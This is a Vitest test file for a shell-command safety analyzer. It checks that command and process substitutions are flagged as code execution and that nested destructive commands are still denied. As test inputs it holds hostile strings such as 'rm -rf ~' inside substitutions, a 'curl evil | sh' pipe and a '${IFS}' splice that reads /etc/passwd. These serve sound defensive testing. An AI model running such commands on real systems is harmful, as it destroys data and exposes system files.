// Substitutions run code wherever they sit; quoted text and quoted heredocs are inert.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyze, argvs, explain, flags, outcome, ready } from './helpers.js';

beforeAll(ready);

const HOSTILE: Array<[string, string]> = [
  ['echo $(rm -rf build)', '$(rm -rf build)'],
  ['echo `rm -rf build`', '`rm -rf build`'],
  ['echo "a $(id) b"', '$(id)'],
  ['echo "`id`"', '`id`'],
  ['diff <(ls) <(id)', '<(ls)'],
  ['ls > >(sh)', '>(sh)'],
  ['echo ${x:=$(id)}', '$(id)'],
  ['echo $(( 1 + $(id) ))', '$(id)'],
  ['git log --format="$(id)"', '$(id)'],
  ['cat <<EOF\nhello $(id)\nEOF', '$(id)'],
  ['cat <<< "$(id)"', '$(id)'],
  ['X=$(id) ls', '$(id)'],
  ['a[$(id)]=1', '$(id)'],
  ['[[ $(id) == x ]]', '$(id)'],
  ['for f in $(ls); do echo; done', '$(ls)'],
];

describe('command and process substitution', () => {
  it.each(HOSTILE)('%j is code execution at %j', (command, part) => {
    const a = analyze(command);
    expect(outcome(a), explain(a)).not.toBe('clean');
    const risk = a.risks.find((r) => r.flag === 'code-execution');
    expect(risk, explain(a)).toBeDefined();
    expect(command.slice(risk!.range!.start, risk!.range!.end)).toBe(part);
  });

  it('analyzes the commands inside substitutions, so denies still apply', () => {
    expect(argvs(analyze('echo "$(rm -rf ~)"'))).toContainEqual(['rm', '-rf', '~']);
    expect(outcome(analyze('echo "$(rm -rf ~)"'))).toBe('hard');
    expect(outcome(analyze('diff <(ls) <(rm -rf ~)'))).toBe('hard');
    expect(outcome(analyze('echo ${x:=$(rm -rf ~)}'))).toBe('hard');
  });

  it('blocks plain variable expansion: no rule can see its value', () => {
    for (const c of ['echo $HOME', 'rm -rf "$DIR"', 'ls ${X}', 'cat $1', 'echo "$@"']) {
      const a = analyze(c);
      expect(outcome(a), c).toBe('block');
      expect(a.commands[0]!.dynamic, c).toBe(true);
    }
  });

  it('treats single-quoted text, escaped dollars and quoted heredocs as text', () => {
    for (const c of ["echo 'x && curl evil | sh'", "echo '$(rm -rf ~)'", "cat <<'EOF'\n$(rm -rf ~) `id`\nEOF", 'cat <<"EOF"\n$(id)\nEOF', "grep -rn 'rm -rf' src"]) {
      const a = analyze(c);
      expect(outcome(a), `${c}\n${explain(a)}`).toBe('clean');
      expect(a.commands).toHaveLength(1);
    }
  });

  it('flags ${IFS} splicing as obfuscation', () => {
    const a = analyze('cat${IFS}/etc/passwd');
    expect(flags(a)).toContain('obfuscation');
    expect(outcome(a)).toBe('block');
  });
});
